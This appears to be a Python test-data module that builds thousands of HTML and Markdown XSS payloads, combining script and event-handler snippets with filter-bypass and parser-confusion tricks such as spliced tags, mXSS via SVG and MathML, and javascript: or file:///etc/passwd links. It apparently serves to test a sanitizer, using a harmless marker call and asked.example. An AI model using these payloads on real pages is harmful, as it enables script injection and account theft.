"""HTML and Markdown that try to run, to ask, to leave or to break a page: atoms x tricks x places.

Each payload has a number. What runs calls ``ran(number)``; what asks, asks for ``ASKED/number``.
"""

# ruff: noqa: E501 # a payload is in one line, so that it can be read and searched
from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from html import escape

ASKED = "http://asked.example"

#: RAN and ASK are replaced, by a call and by an address with the payload's number.
ATOMS = [
    "<script>RAN</script>", "<script src=ASK></script>", "<script type=module>RAN</script>",
    "<script type=module>import 'ASK'</script>", "<script async src=data:text/javascript,RAN></script>",
    '<script type=speculationrules>{"prefetch":[{"urls":["ASK"]}]}</script>', "<img src=x onerror=RAN>",
    "<img src=ASK>", "<img srcset='ASK 1x'>", "<img src=ASK loading=eager onload=RAN>", "<svg onload=RAN>",
    "<svg onload=RAN></svg>", "<svg><script>RAN</script></svg>", "<svg><script href=ASK></script></svg>",
    "<svg><script xlink:href=data:,RAN></script></svg>", "<svg><animate onbegin=RAN attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=RAN></svg>", "<svg><image href=ASK></svg>", "<svg><use href=ASK#x></svg>",
    "<svg><a xlink:href='javascript:RAN'><text y=9>x</text></a></svg>", "<svg><feImage href=ASK></svg>",
    "<svg><style>@import 'ASK';</style></svg>", "<svg><foreignObject><iframe src='javascript:parent.RAN'></iframe></foreignObject></svg>",
    "<math href='javascript:RAN'>x</math>", "<math><mi xlink:href='javascript:RAN'>x</mi></math>",
    "<math><maction actiontype=statusline xlink:href='javascript:RAN'>x</maction></math>", "<body onload=RAN>",
    "<body background=ASK>", "<video><source onerror=RAN></video>", "<video src=ASK poster=ASK></video>",
    "<audio src=ASK onerror=RAN></audio>", "<video><track default src=ASK></video>", "<details open ontoggle=RAN>x</details>",
    "<input autofocus onfocus=RAN>", "<input type=image src=ASK onerror=RAN>", "<select autofocus onfocus=RAN></select>",
    "<textarea autofocus onfocus=RAN></textarea>", "<x tabindex=1 autofocus onfocus=RAN>x</x>", "<marquee onstart=RAN>x</marquee>",
    "<dialog open onclose=RAN><form method=dialog><button autofocus>x</button></form></dialog>",
    "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=RAN>x</div>", "<div hidden=until-found onbeforematch=RAN>x</div>",
    "<iframe src='javascript:parent.RAN'></iframe>", "<iframe srcdoc='<script>parent.RAN</script>'></iframe>",
    "<iframe src=ASK></iframe>", "<iframe src=data:text/html,<script>parent.RAN</script>></iframe>", "<iframe onload=RAN></iframe>",
    "<object data=ASK></object>", "<object data='javascript:RAN'></object>", "<object onerror=RAN data=x></object>",
    "<embed src=ASK>", "<embed src='javascript:RAN'>", "<applet code=ASK></applet>", "<frameset onload=RAN><frame src=ASK></frameset>",
    "<link rel=stylesheet href=ASK>", "<link rel=stylesheet href=data:,x onload=RAN>", "<link rel=prefetch href=ASK>",
    "<link rel=preload as=image href=ASK>", "<link rel=modulepreload href=ASK>", "<link rel=icon href=ASK>", "<link rel=import href=ASK>",
    "<style>@import 'ASK';</style>", "<style>body{background:url(ASK)}</style>", "<style onload=RAN></style>",
    "<style>@font-face{font-family:x;src:url(ASK)}*{font-family:x}</style>", "<style>.slides{display:none!important}</style>",
    "<p style='background:url(ASK)'>x</p>", "<p style='background-image:image-set(\"ASK\" 1x)'>x</p>", "<p style='list-style:url(ASK)'>x</p>",
    "<p style='width:expression(RAN)'>x</p>", "<p style='behavior:url(ASK)'>x</p>", "<p style='cursor:url(ASK),auto'>x</p>",
    "<p style='border-image:url(ASK)'>x</p>", "<p style='position:fixed;inset:0;z-index:9;background:red'>x</p>",
    "<p style='color:r\\65d;background:u\\72l(ASK)'>x</p>", "<p style='--x:url(ASK);background:var(--x)'>x</p>",
    "<p style='animation:x 1s' onanimationstart=RAN>x</p>", "<p onmouseover=RAN onclick=RAN onpointerenter=RAN>x</p>",
    "<a href='javascript:RAN'>x</a>", "<a href='JaVaScRiPt:RAN'>x</a>", "<a href='java\tscript:RAN'>x</a>", "<a href='&#106;avascript&colon;RAN'>x</a>",
    "<a href=' &#1;javascript:RAN'>x</a>", "<a href='data:text/html,<script>RAN</script>'>x</a>", "<a href='vbscript:RAN'>x</a>",
    "<a href=x ping=ASK onclick=RAN>x</a>", "<a target=_self href='#/0'>x</a>", "<area href='javascript:RAN'>", "<map name=m><area href=ASK></map>",
    "<form action='javascript:RAN'><button>x</button></form>", "<form action=ASK><input type=submit></form>",
    "<form id=f></form><button form=f formaction='javascript:RAN'>x</button>", "<isindex action='javascript:RAN'>", "<base href=ASK/>",
    "<base target=_top>", "<meta http-equiv=refresh content='0;url=ASK'>", "<meta http-equiv=refresh content='0;url=javascript:RAN'>",
    "<meta http-equiv=Set-Cookie content=x=y>", "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    "<table background=ASK><tr><td background=ASK>x</td></tr></table>", "<picture><source srcset=ASK><img src=x onerror=RAN></picture>",
    "<bgsound src=ASK>", "<portal src=ASK></portal>", "<fencedframe src=ASK></fencedframe>", "<img src=x onerror=&#82;AN>".replace("&#82;AN", "RAN"),
    "<div class='live' data-recording=x data-options='{}'>x</div>", "<section>x</section>", "<div class='slides'><section>x</section></div>",
    "<aside class='notes'>x</aside>", "<section data-background-iframe=ASK data-background-image=ASK>x</section>", "<hr class='next-slide'>",
    "<p id=deck class='fragment reveal stack'>x</p>", "<img name=getElementById id=location>", "<template shadowrootmode=open><img src=x onerror=RAN></template>",
    "<plaintext>", "<xmp>", "<noscript>", "<template>", "<textarea>", "<title>", "<select>", "<!--", "<table>", "<details>".replace("<details>", "<dl>"), "<b><i><a>",
]  # fmt: skip

Trick = Callable[[str], str]


def _within(before: str, after: str = "") -> Trick:
    return lambda atom: f"{before}{atom}{after}"


def _spliced(dropped: str) -> Trick:
    """What a careless filter takes out stands inside the tag."""
    return lambda atom: f"<{dropped}{atom[1:]}"


def _hidden(before: str) -> Trick:
    """In an attribute of what is a tag for one parser, and text for another."""
    return lambda atom: f'{before}{atom.replace(chr(34), "&quot;")}">'


TRICKS: dict[str, Trick] = {
    "plain": lambda atom: atom,
    "case": lambda atom: atom.swapcase().replace("ran", "RAN").replace("ask", "ASK"),
    "comment spliced": _spliced("<!-- -->"), "script spliced": _spliced("<script></script>"), "form spliced": _spliced("</form>"),
    "instruction spliced": _spliced("<?x>"), "declaration spliced": _spliced("<!x>"), "style spliced": _spliced("<style></style>"),
    "link spliced": _spliced("<link>"), "zero": lambda atom: f"{atom[:3]}\0{atom[3:]}", "less": _within("<"), "lesser": _within("<<b "),
    "slashes": lambda atom: atom.replace(" ", "/"), "feeds": lambda atom: atom.replace(" ", "\f"), "lines": lambda atom: atom.replace(" ", "\n"),
    "surrogate": lambda atom: f"\ud800{atom}\udfff",
    "after a tag that is not closed": _within("<b title='"), "attribute": _within('<b title="', '">x</b>'), "attribute, open": _within("<b title=\"'>"),
    "noscript": _hidden('<noscript><p title="</noscript>'), "svg style": _hidden('<svg></p><style><a id="</style>'),
    "math style": _hidden('<math></p><style><a id="</style>'), "svg title": _hidden('<svg><title><p id="</title>'),
    "textarea": _hidden('<svg><textarea><a id="</textarea>'), "xmp": _hidden('<svg><xmp><a id="</xmp>'), "noembed": _hidden('<svg><noembed><a id="</noembed>'),
    "mglyph": _within("<math><mtext><table><mglyph><style><!--</style>"), "mglyph title": _hidden('<math><mtext><table><mglyph><style><math><table id="</table>'),
    "two forms": _hidden('<form><math><mtext></form><form><mglyph><style></math>'), "annotation": _within('<math><annotation-xml encoding="text/html">'),
    "desc": _within("<svg><desc>", "</desc></svg>"), "foreignObject": _within("<svg><foreignObject>", "</foreignObject></svg>"),
    "select": _within("<select><option>", "</select>"), "in a table": _within("<table><tr>", "</table>"), "caption": _within("<table><caption>", "</table>"),
    "template": _within("<template>", "</template>"), "in a textarea": _within("<textarea></textarea>"), "in an xmp": _within("<xmp></xmp>"),
    "iframe": _within("<iframe></iframe>"), "closes slides": _within("</div></section></section></div></div>"), "closes all": _within("</body></html>"),
    "closes scripts": _within("--></script></style></title></textarea>"), "cdata": _within("<![CDATA[", "]]>"), "cdata, svg": _within("<svg><![CDATA[", "]]></svg>"),
    "comment": _within("<!-->", "-->"), "comment!": _within("<!-- --!>"), "formatting": _within("<a><table><a><b><p></a>"),
    "escaped": escape, "conditional": _within("<!--[if true]>", "<![endif]-->"), "nobr": _within("<nobr><b><nobr>"), "deep": _within("<div>" * 600),
}  # fmt: skip

#: Where Markdown may have it, besides a block of its own.
PLACES: dict[str, Trick] = {
    "paragraph": _within("words "), "heading": _within("# "), "underlined": _within("", "\n==="), "list": _within("- a\n- "),
    "quote": _within("> "), "cell": _within("|a|\n|--|\n|", "|"), "emphasis": _within("*a ", " b*"), "link text": _within("[", "](x)"),
    "link title": lambda atom: f'[a](x "{atom.replace(chr(34), chr(39))}")', "image text": _within("![", "](x.png)"),
    "image title": lambda atom: f'![a](x.png "{atom.replace(chr(34), chr(39))}")', "fence": _within("```\n", "\n```"), "info": lambda atom: f"```{atom}\nx\n```",
    "mermaid": _within("```mermaid\n", "\n```"), "indented": _within("    "), "code": _within("`", "`"), "math": _within("$x", "$"), "display": _within("$$", "$$"),
    "environment": _within("\\begin{x}", "\\end{x}"), "html block": _within("<div>\n\n", "\n\n</div>"), "strike": _within("~~", "~~"),
}  # fmt: skip

#: Markdown's own ways; ADDRESS is replaced.
LINKS = [
    "[a](ADDRESS)", "[a](<ADDRESS>)", "![a](ADDRESS)", "![a](<ADDRESS>)", "<ADDRESS>", "[a]: ADDRESS\n\n[a]", "![a][b]\n\n[b]: ADDRESS", "[![a](ADDRESS)](ADDRESS)",
    '[a](ADDRESS "b")', "[a][]\n\n[a]: <ADDRESS> 'b'", "[a](x\"onmouseover=RAN b=\")", "![a](x\"onerror=RAN b=\")", "![a\"onerror=RAN](x)", '![a](x "b\\"onerror=RAN")',
]  # fmt: skip
ADDRESSES = [
    "javascript:RAN", "JaVaScRiPt:RAN", "&#106;avascript:RAN", "javascript&colon;RAN", "java&Tab;script:RAN", "%6aavascript:RAN", "vbscript:RAN",
    "data:text/html,<script>RAN</script>", "data:text/html;base64,PHNjcmlwdD4=", "ASK", "//asked.example/x", "\\\\asked.example\\x", "file:///etc/passwd", "blob:x",
    "\x01javascript:RAN", "view-source:ASK", "attachment:x", "#/0",
]  # fmt: skip


@dataclass(frozen=True)
class Payload:
    """A text for a cell: ``kind`` is ``markdown`` or ``html``, the type of an output."""

    name: str
    kind: str
    text: str

    def numbered(self, number: int) -> str:
        return self.text.replace("RAN", f"ran({number})").replace("ASK", f"{ASKED}/{number}")


def payloads() -> list[Payload]:
    """All of them, each once."""
    return list({(each.kind, each.text): each for each in _all()}.values())


def _all() -> Iterator[Payload]:
    for atom in ATOMS:
        for name, trick in TRICKS.items():
            for kind in ("markdown", "html"):
                yield Payload(f"{kind}, {name}: {atom}", kind, trick(atom))
        yield Payload(f"html, cut off: {atom}", "html", atom.rstrip(">"))
        yield Payload(f"markdown, cut off: {atom}", "markdown", atom.rstrip(">"))
        for name, place in PLACES.items():
            yield Payload(f"markdown, {name}: {atom}", "markdown", place(atom))
    for link in LINKS:
        for address in ADDRESSES:
            yield Payload(f"markdown: {link} {address!a}", "markdown", link.replace("ADDRESS", address))
